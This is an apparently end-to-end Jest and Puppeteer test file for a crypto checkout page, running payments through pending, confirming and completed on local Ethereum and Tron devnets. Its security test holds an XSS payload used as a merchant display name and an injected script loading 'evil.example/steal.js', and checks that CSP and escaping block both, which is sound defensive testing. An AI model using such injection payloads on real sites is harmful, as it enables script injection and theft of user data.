/**
 * The hosted payment page in a real headless Chromium against a real stack: the API serving
 * /pay, inflow's worker watching two real chains (anvil for Ethereum, the Tron devnet) on its own
 * Temporal dev server namespace, Postgres. An order's page follows its payment on each chain from
 * pending through confirming to completed without a reload, then takes the payer to success_url;
 * it is read at 320 px and with JavaScript off; its CSP blocks an injected script. Screenshots of
 * each state go to test-artifacts/screenshots/checkout-*.png.
 */
import http from 'node:http';
import { mkdtemp } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Contract, NonceManager } from 'ethers';
import type { Browser, BrowserContext, Page } from 'puppeteer-core';
import { deployTestUsdt, fundedSigner, startAnvil, type RunningAnvil } from '../../dev/devnet/anvil';
import { startTronDevnet, type RunningTronDevnet } from '../../dev/devnet/tron-devnet';
import { buildMerchant } from '../../dev/fixtures';
import { freePort } from '../../dev/tools/ports';
import { watchedTokenContracts } from '../../src/checkout/checkout.routes';
import type { CreatedMerchant } from '../../src/merchants/merchants.service';
import { chainWatcherWorkflowId, watcherStateQuery } from '../../src/workflows/definitions';
import { ledgerInvariantViolations } from '../../src/balance/ledger.repository';
import { launchBrowser, saveScreenshot } from '../helpers/browser';
import { startTestStack, type TestStack } from '../helpers/api-stack';
import { isolatedNamespaces } from '../helpers/temporal';
import { waitFor } from '../helpers/wait';

// The page's globals, inside the functions puppeteer runs in the browser (the project has no DOM lib).
declare const window: any;
declare const document: any;

jest.setTimeout(180_000);

const CONFIRMATIONS = 3;

describe('payment page (headless Chromium; API, worker watching anvil and the Tron devnet, Temporal dev server, Postgres)', () => {
  let anvil: RunningAnvil;
  let tron: RunningTronDevnet;
  let signer: NonceManager;
  let usdt: Contract;
  let stack: TestStack;
  let merchant: CreatedMerchant;
  let browser: Browser;
  let shop: http.Server;
  let shopUrl: string;
  const contexts: BrowserContext[] = [];

  beforeAll(async () => {
    anvil = await startAnvil({ port: await freePort(), stateFile: path.join(await mkdtemp(path.join(os.tmpdir(), 'inflow-anvil-')), 'state.json') });
    signer = fundedSigner(anvil.provider);
    usdt = await deployTestUsdt(signer);
    tron = await startTronDevnet({ port: await freePort() });
    tron.mine(3);
    stack = await startTestStack('checkout-e2e', {
      namespace: isolatedNamespaces.checkout,
      env: {
        INFLOW_RPC_URL_ETHEREUM_TEST: anvil.rpcUrl,
        INFLOW_TOKEN_ETHEREUM_USDT_TEST: await usdt.getAddress(),
        INFLOW_CONFIRMATIONS_ETHEREUM_TEST: String(CONFIRMATIONS),
        INFLOW_RPC_URL_TRON_TEST: tron.rpcUrl,
        INFLOW_TOKEN_TRON_USDT_TEST: tron.usdtAddress,
        INFLOW_CONFIRMATIONS_TRON_TEST: String(CONFIRMATIONS),
        INFLOW_CHAIN_POLL_MS: '100',
      },
      chainWatchers: true,
      // The QR code names the token contracts the worker watches, as `npm run api` does from its config.
      api: (inflow) => ({ simulatedBlockTimeMs: 10, tokenContracts: watchedTokenContracts(inflow.config.chains) }),
    });
    merchant = await buildMerchant(stack.database.db, 'Corner Shop');
    for (const network of ['ethereum', 'tron'] as const) {
      const watcher = stack.dev.client.workflow.getHandle(chainWatcherWorkflowId({ livemode: false, network }));
      await waitFor(`${network} watcher at the head`, async () => (await watcher.query(watcherStateQuery)).head !== null);
    }
    // The merchant's own site, where success_url leads: on loopback.
    shop = http.createServer((request, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end('<h1>Thank you for your order</h1>'));
    await new Promise<void>((resolve) => shop.listen(0, '127.0.0.1', resolve));
    shopUrl = `http://127.0.0.1:${(shop.address() as { port: number }).port}`;
    browser = await launchBrowser();
  });

  afterEach(async () => {
    for (const context of contexts.splice(0)) await context.close();
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => shop?.close(resolve));
    for (const network of ['ethereum', 'tron'] as const) {
      await stack?.dev.client.workflow
        .getHandle(chainWatcherWorkflowId({ livemode: false, network }))
        .terminate('test over')
        .catch(() => undefined);
    }
    await stack?.stop();
    if (stack) expect(await ledgerInvariantViolations(stack.database.db)).toEqual([]);
    await stack?.database.destroy();
    await tron?.stop();
    await anvil?.stop();
  });

  let serial = 0;
  const createOrder = async (json: Record<string, unknown>) => {
    const response = await stack.api.request('/api/v1/orders', {
      method: 'POST',
      key: merchant.test_key,
      json: { external_id: `pay-${++serial}`, currency: 'USDT', amount: '5', success_url: `${shopUrl}/thanks`, cancel_url: `${shopUrl}/cart`, ...json },
    });
    const body = (await response.json()) as { id: string; address: string; payment_url: string };
    expect(response.status).toBe(200);
    return body;
  };

  const freshPage = async (options: { width?: number; javaScript?: boolean } = {}): Promise<Page> => {
    const context = await browser.createBrowserContext();
    contexts.push(context);
    const page = await context.newPage();
    page.setDefaultTimeout(60_000);
    await page.setViewport({ width: options.width ?? 1000, height: 900 });
    if (options.javaScript === false) await page.setJavaScriptEnabled(false);
    return page;
  };

  const statusOf = (page: Page) => page.evaluate(() => document.body.getAttribute('data-status') as string);
  const headline = (page: Page) => page.$eval('[data-headline]', (node: any) => node.textContent.trim() as string);
  const progress = (page: Page) =>
    page.$eval('[data-progress]', (node: any) => ({ hidden: node.hidden as boolean, value: node.value as number, max: node.max as number }));

  /**
   * Opens the order's page, has `pay` send the payment on its chain, and `mine` add blocks until
   * the page, never reloaded, shows completed; then it must take the payer to success_url.
   */
  const followPayment = async (name: string, order: { payment_url: string }, pay: () => Promise<void>, mine: () => Promise<void>) => {
    const page = await freshPage();
    await page.goto(order.payment_url, { waitUntil: 'load' });
    expect(await statusOf(page)).toBe('awaiting_payment');
    expect(await headline(page)).toBe('Waiting for your payment');
    expect(await progress(page)).toMatchObject({ hidden: true });
    await saveScreenshot(page, `checkout-${name}-pending`);
    // Gone after any reload or navigation: the page must change in place.
    await page.evaluate(() => {
      window.__sameDocument = true;
    });

    await pay();
    await page.waitForFunction(() => document.body.getAttribute('data-status') === 'confirming');
    const seen = await progress(page);
    expect(seen).toMatchObject({ hidden: false, max: CONFIRMATIONS });
    expect(seen.value).toBeGreaterThanOrEqual(0);
    expect(seen.value).toBeLessThan(CONFIRMATIONS);
    expect(await page.$eval('[data-announce]', (node: any) => node.textContent as string)).toMatch(/^Payment detected, confirming\. /);
    // Paid in full and confirming: nothing left to send, simulate or cancel.
    expect(await page.$eval('form.simulate', (node: any) => node.hidden as boolean)).toBe(true);
    expect(await page.$eval('[data-cancel-link]', (node: any) => node.textContent as string)).toBe('Return to Corner Shop');
    await saveScreenshot(page, `checkout-${name}-confirming`);

    const completed = page.waitForFunction(() => document.body.getAttribute('data-status') === 'completed', { polling: 50 });
    await waitFor(
      `${name} page completed`,
      async () => {
        if ((await statusOf(page)) === 'completed') return true;
        await mine();
        return false;
      },
      90_000,
    );
    await completed;
    expect(await page.evaluate(() => window.__sameDocument === true)).toBe(true);
    expect(await headline(page)).toBe('Paid');
    expect(await page.$eval('[data-pay]', (node: any) => node.hidden as boolean)).toBe(true);
    expect(await page.$eval('[data-redirecting]', (node: any) => node.hidden as boolean)).toBe(false);
    await saveScreenshot(page, `checkout-${name}-completed`);
    await page.waitForFunction((url: string) => window.location.href === url, {}, `${shopUrl}/thanks`);
    expect(await page.$eval('h1', (node: any) => node.textContent as string)).toBe('Thank you for your order');
  };

  it('follows a USDT payment on Ethereum (anvil) from pending through confirming to completed, live, and returns to the shop', async () => {
    const order = await createOrder({ network: 'ethereum' });
    const page = await freshPage();
    await page.goto(order.payment_url, { waitUntil: 'load' });
    // The QR code's request, as a wallet link: EIP-681 transfer of 5 USDT (6 decimals) to the order's address.
    expect(await page.$eval('[data-payment-uri]', (node: any) => node.getAttribute('href') as string)).toBe(
      `ethereum:${await usdt.getAddress()}/transfer?address=${order.address}&uint256=5000000`,
    );
    expect(await page.$('svg[data-qr]')).not.toBeNull();

    await followPayment(
      'ethereum',
      order,
      async () => {
        await (await usdt.getFunction('transfer')(order.address, 5_000_000n)).wait();
      },
      async () => {
        await anvil.provider.send('evm_mine', []);
      },
    );
  });

  it('follows a USDT payment on Tron (devnet) the same way', async () => {
    const order = await createOrder({ network: 'tron' });
    await followPayment(
      'tron',
      order,
      async () => {
        tron.transfer(order.address, 5_000_000n, 'USDT');
        tron.mine();
      },
      async () => tron.mine(),
    );
  });

  it('works without JavaScript: the status is current at each load, and the simulate form pays', async () => {
    const order = await createOrder({ network: 'ethereum', amount: '2' });
    const page = await freshPage({ javaScript: false });
    await page.goto(order.payment_url, { waitUntil: 'load' });
    expect(await headline(page)).toBe('Waiting for your payment');
    // Nothing the script would have shown: the copy buttons stay hidden, the amount and address are plain text.
    expect(await page.$$eval('button[data-copy]', (buttons: any[]) => buttons.map((button) => button.hidden as boolean))).toEqual([true, true]);
    expect(await page.$eval('#address', (node: any) => node.textContent as string)).toBe(order.address);
    await saveScreenshot(page, 'checkout-no-javascript-pending');

    await Promise.all([page.waitForNavigation({ waitUntil: 'load' }), page.click('form.simulate button')]);
    expect(page.url()).toBe(`${order.payment_url}?simulated=1`);
    expect(await page.$eval('.notice', (node: any) => node.textContent as string)).toBe('A simulated payment was sent.');
    await waitFor(
      'the page, reloaded, completed',
      async () => {
        await page.reload({ waitUntil: 'load' });
        return (await headline(page)) === 'Paid';
      },
      90_000,
    );
    expect(await page.$eval('[data-detail]', (node: any) => node.textContent as string)).toBe('2.000000 USDT received. Thank you.');
    // Without the script nothing redirects: the link back is there instead.
    expect(await page.$eval('[data-success-link]', (node: any) => ({ hidden: node.hidden as boolean, href: node.href as string }))).toEqual({
      hidden: false,
      href: `${shopUrl}/thanks`,
    });
    await saveScreenshot(page, 'checkout-no-javascript-completed');
  });

  it('fits a 320 px screen, keyboard first, with its states named for screen readers', async () => {
    const order = await createOrder({ network: 'tron', amount: '12.5' });
    const page = await freshPage({ width: 320 });
    await page.goto(order.payment_url, { waitUntil: 'load' });
    expect(await page.evaluate(() => document.documentElement.scrollWidth as number)).toBeLessThanOrEqual(320);
    // The copy buttons, the simulate button and the link back can be reached with Tab alone.
    const reached: string[] = [];
    for (let i = 0; i < 6; i++) {
      await page.keyboard.press('Tab');
      reached.push(await page.evaluate(() => (document.activeElement.getAttribute('data-copy') ?? document.activeElement.textContent).trim() as string));
    }
    expect(reached).toEqual(expect.arrayContaining(['amount', 'address', 'Simulate payment', 'Cancel and return to Corner Shop']));
    expect(await page.$eval('[data-announce]', (node: any) => node.getAttribute('aria-live') as string)).toBe('polite');
    expect(await page.$eval('h1', (node: any) => node.textContent as string)).toBe('Pay Corner Shop');
    await saveScreenshot(page, 'checkout-320px');
  });

  it('blocks a script injected into the page (CSP), and renders a hostile display name as text', async () => {
    const named = await stack.api.request('/api/v1/account', {
      method: 'PATCH',
      key: merchant.test_key,
      json: { display_name: '<img src=x onerror="window.__pwned=1">Shop' },
    });
    expect(named.status).toBe(200);
    const order = await createOrder({ network: 'ethereum' });
    const page = await freshPage();
    const violations: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy/.test(message.text())) violations.push(message.text());
    });
    await page.goto(order.payment_url, { waitUntil: 'load' });
    await stack.api.request('/api/v1/account', { method: 'PATCH', key: merchant.test_key, json: { display_name: null } });
    expect(await page.$eval('.merchant-name', (node: any) => node.textContent as string)).toBe('<img src=x onerror="window.__pwned=1">Shop');
    await page.addScriptTag({ content: 'window.__injected = true;' }).catch(() => undefined);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/steal.js';
      document.head.appendChild(script);
    });
    await waitFor('the CSP reported both', async () => violations.length >= 2);
    expect(await page.evaluate(() => [typeof window.__injected, typeof window.__pwned])).toEqual(['undefined', 'undefined']);
  });

  it('renders the expired and underpaid states with their amounts', async () => {
    const expired = await createOrder({ network: 'ethereum' });
    const partly = await createOrder({ network: 'tron', amount: '10' });
    tron.transfer(partly.address, 4_000_000n, 'USDT');
    for (let i = 0; i <= CONFIRMATIONS; i++) tron.mine();
    await waitFor(
      'the partial payment completed',
      async () => {
        const response = await stack.api.request(`/api/v1/orders/${(partly as { id: string }).id}`, { key: merchant.test_key });
        const body = (await response.json()) as { amount_received: string };
        if (body.amount_received === '4.000000') return true;
        tron.mine();
        return false;
      },
      60_000,
    );
    await stack.database.db
      .updateTable('orders')
      .set({ expires_at: new Date(Date.now() - 1000) })
      .where('id', 'in', [expired.id, partly.id])
      .execute();
    const page = await freshPage();
    await page.goto(expired.payment_url, { waitUntil: 'load' });
    expect(await headline(page)).toBe('This payment request has expired');
    expect(await page.$eval('[data-pay]', (node: any) => node.hidden as boolean)).toBe(true);
    expect(await page.$eval('[data-cancel-link]', (node: any) => node.textContent.trim() as string)).toBe('Return to Corner Shop');
    await saveScreenshot(page, 'checkout-expired');
    await page.goto(partly.payment_url, { waitUntil: 'load' });
    expect(await headline(page)).toBe('Expired before it was paid in full');
    expect(await page.$eval('[data-detail]', (node: any) => node.textContent as string)).toBe(
      '4.000000 of 10.000000 USDT arrived in time; 6.000000 USDT is missing. Do not send more here: contact Corner Shop.',
    );
    await saveScreenshot(page, 'checkout-underpaid');
  });
});
